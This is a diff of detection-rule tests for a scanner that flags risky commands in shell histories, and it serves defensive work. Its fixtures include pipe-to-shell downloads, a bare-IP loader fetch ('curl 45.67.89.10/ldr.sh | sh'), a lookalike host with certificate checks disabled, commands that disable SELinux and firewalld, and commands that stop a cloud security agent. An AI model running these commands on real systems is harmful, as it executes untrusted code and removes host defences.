@@ -14,8 +14,54 @@ testRule(rule, {
         }),
       },
     },
+    {
+      // The CentOS/Kylin Kubernetes preparation every Chinese install guide prints, with nothing else around it.
+      name: 'kubernetes node preparation (setenforce 0, firewalld stopped) and chattr hardening',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': 'setenforce 0\nsed -i s/^SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config\nsystemctl stop firewalld\nsystemctl disable firewalld\nswapoff -a\nchattr +i /etc/passwd /etc/shadow /etc/group /etc/gshadow\nyum install -y kubelet kubeadm kubectl\n',
+        }),
+      },
+    },
   ],
   invalid: [
+    {
+      name: 'vendor installers over https (docker, k3s, rustup, nodesource) and the BT panel installer are low',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': [
+            'curl -fsSL https://get.docker.com | sh',
+            'curl -sfL https://get.k3s.io | sh -',
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+            'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
+            'yum install -y wget && wget -O install.sh http://download.bt.cn/install/install_6.0.sh && sh install.sh ed8484bec',
+          ].join('\n'),
+        }),
+      },
+      expect: [
+        { severity: 'low', path: '/root/.bash_history', title: /pipes it into a shell \(4×\)/, evidence: /get\.docker\.com/ },
+        { severity: 'low', title: /downloads a file then/, evidence: /download\.bt\.cn/ },
+      ],
+    },
+    {
+      name: 'an unknown https host is high; ignoring the certificate or a bare address keeps it critical',
+      facts: {
+        histories: historyFacts({
+          '/root/.bash_history': 'curl -fsSL https://scripts.example.org/setup.sh | bash\n',
+          '/home/deploy/.bash_history': 'curl -fsSLk https://get.docker.com.example.net/x | sh\ncurl 45.67.89.10/ldr.sh | sh\nsetenforce 0\nsystemctl stop firewalld\n',
+        }),
+      },
+      expect: [
+        { severity: 'critical', user: 'deploy', title: /pipes it into a shell \(2×\)/ },
+        { severity: 'high', user: 'root', title: /pipes it into a shell \(1×\)/ },
+        { severity: 'high', user: 'deploy', title: /disables SELinux/ },
+      ],
+    },
+    {
+      name: 'stopping a cloud security agent is high even alone',
+      facts: { histories: historyFacts({ '/root/.bash_history': 'systemctl stop aegis\n/etc/init.d/aegis stop\n' }) },
+      expect: [{ severity: 'high', title: /disables SELinux/ }],
+    },
     {
       name: 'seed 002 dropper, wiping and chattr grouped per pattern',
       facts: {
